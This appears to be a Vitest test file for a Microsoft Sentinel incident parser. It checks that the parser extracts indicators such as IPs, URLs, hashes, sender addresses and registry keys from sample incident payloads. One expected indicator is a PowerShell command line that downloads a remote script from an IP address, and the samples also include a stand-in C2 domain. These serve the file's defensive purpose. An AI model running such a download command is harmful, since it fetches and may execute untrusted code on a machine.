import { describe, expect, it } from 'vitest';
import { alertsOf, payload, told, without } from '../reading/told.fixture.ts';
import { sentinel } from './sentinel.ts';

describe('sentinel', () => {
  it('reads an incident of a Logic App by the kinds of its entities', () => {
    const alerts = alertsOf(sentinel, payload('sentinel', 'incident.json'));
    expect(alerts.map(without)).toEqual([
      {
        facts: {
          vendor: 'sentinel',
          ids: {
            id: '/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/soc/providers/Microsoft.OperationalInsights/workspaces/soc-ws/providers/Microsoft.SecurityInsights/Incidents/8e1c9f6e-1b9e-4d1f-8f6d-0c4b1d2e3f40',
            name: '8e1c9f6e-1b9e-4d1f-8f6d-0c4b1d2e3f40',
            incidentNumber: '3177',
            providerName: 'Azure Sentinel',
            providerIncidentId: '3177',
            relatedAnalyticRuleId:
              '/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/soc/providers/Microsoft.OperationalInsights/workspaces/soc-ws/providers/Microsoft.SecurityInsights/alertRules/5f0e',
            subscriptionId: '11111111-2222-3333-4444-555555555555',
            resourceGroup: 'soc',
            workspace: 'soc-ws',
            workspaceId: '99999999-2222-3333-4444-555555555555',
          },
          severity: 'high',
          rule: 'Multi-stage attack on one endpoint',
          occurredAt: '2026-11-24T09:30:00Z',
          link: 'https://portal.azure.com/#asset/Microsoft_Azure_Security_Insights/Incident/8e1c9f6e',
        },
        key: '/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/soc/providers/Microsoft.OperationalInsights/workspaces/soc-ws/providers/Microsoft.SecurityInsights/Incidents/8e1c9f6e-1b9e-4d1f-8f6d-0c4b1d2e3f40 2026-11-24T09:30:00Z 2 13',
        title: 'Multi-stage attack on one endpoint',
        marking: { tlp: 'amber+strict' },
        troubles: [],
      },
    ]);
    expect(alerts.map(told)).toEqual([
      [
        'mentioned object.properties.relatedEntities[0].address (ipv4 ipv6) 203.0.113.80',
        'url object.properties.relatedEntities[1].url (url) https://c2.example.net/p',
        'url object.properties.relatedEntities[1].url.host (ipv4 ipv6 domain) c2.example.net',
        'query object.properties.relatedEntities[2].domainName (domain) c2.example.net',
        'file object.properties.relatedEntities[3].hashValue (md5 sha1 sha224 sha256 sha384 sha512 ssdeep tlsh) a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90',
        'file object.properties.relatedEntities[4].directory (file-path file-name) C:\\Users\\ann\\Downloads\\q4.docm',
        'host! object.properties.relatedEntities[5].hostName (ipv4 ipv6 domain) ws-12.corp.example.com',
        'user! object.properties.relatedEntities[6].accountName (email) ann@corp.example.com',
        'sender object.properties.relatedEntities[7].sender (text) billing@example.net',
        'sender object.properties.relatedEntities[7].p2sender (text) ceo@example.org',
        'recipient! object.properties.relatedEntities[7].recipient (email) ann@corp.example.com',
        'source object.properties.relatedEntities[7].senderIP (ipv4 ipv6) 198.51.100.9',
        'mentioned object.properties.relatedEntities[7].subject (text) Q4 figures',
        'url object.properties.relatedEntities[7].urls[0] (url) https://c2.example.net/p',
        'url object.properties.relatedEntities[7].urls[0].host (ipv4 ipv6 domain) c2.example.net',
        'recipient! object.properties.relatedEntities[8].mailboxPrimaryAddress (email) ann@corp.example.com',
        'mentioned object.properties.relatedEntities[9].commandLine (text) powershell -c iwr http://198.51.100.12/a.ps1',
        'registry object.properties.relatedEntities[10].key (registry-key) HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
        'mentioned object.properties.relatedEntities[12].malwareName (text) Trojan:Win32/Test',
        'mentioned object.properties.title (text) Multi-stage attack on one endpoint',
        'mentioned object.properties.description (text) Traffic to 203.0.113.80 after a macro ran',
        'mentioned object.properties.alerts[0].properties.description (text) Beacon to c2.example.net',
        'mentioned object.properties.additionalData.techniques[0] (attack-id) T1071',
      ],
    ]);
  });

  it('reads an incident with the answer of its entities beside it', () => {
    const alerts = alertsOf(sentinel, payload('sentinel', 'rest-with-entities.json'));
    expect(alerts.map(without)).toEqual([
      {
        facts: {
          vendor: 'sentinel',
          ids: {
            id: '/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/soc/providers/Microsoft.OperationalInsights/workspaces/soc-ws/providers/Microsoft.SecurityInsights/Incidents/9a',
            name: '9a',
            incidentNumber: '12',
          },
          severity: 'low',
          rule: 'Sign-in from a rare address',
        },
        key: '/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/soc/providers/Microsoft.OperationalInsights/workspaces/soc-ws/providers/Microsoft.SecurityInsights/Incidents/9a - 1 1',
        title: 'Sign-in from a rare address',
        troubles: [],
      },
    ]);
    expect(alerts.map(told)).toEqual([
      [
        'mentioned entities.entities[0].address (ipv4 ipv6) 2001:db8::99',
        'mentioned incident.properties.title (text) Sign-in from a rare address',
      ],
    ]);
  });

  it('reads the entities of an alert trigger, which are a text', () => {
    const alerts = alertsOf(sentinel, payload('sentinel', 'alert-trigger.json'));
    expect(alerts.map(without)).toEqual([
      {
        facts: {
          vendor: 'sentinel',
          ids: {
            id: 'sa-77',
            subscriptionId: '11111111-2222-3333-4444-555555555555',
            resourceGroup: 'soc',
            workspaceId: '99999999-2222-3333-4444-555555555555',
            tenantId: 't-1',
          },
          severity: 'medium',
          rule: 'Brute force',
          occurredAt: '2026-11-24T09:00:00Z',
        },
        key: 'sa-77 - - 2',
        title: 'Brute force',
        troubles: [],
      },
    ]);
    expect(alerts.map(told)).toEqual([
      ['mentioned Entities[0].address (ipv4 ipv6) 198.51.100.31', 'host! Entities[1].hostName (ipv4 ipv6 domain) srv-3.corp.example.com'],
    ]);
  });

  it('is another submission when an alert is added, and the same when a comment or an owner is', () => {
    const body = payload('sentinel', 'incident.json');
    const key = (text: string) => alertsOf(sentinel, text)[0]?.key;
    expect(key(body.replace('"commentsCount": 0', '"commentsCount": 3').replace('"email": null', '"email": "eve@corp.example.com"'))).toBe(
      key(body),
    );
    expect(key(body.replace('"alertsCount": 2', '"alertsCount": 3'))).not.toBe(key(body));
  });
});
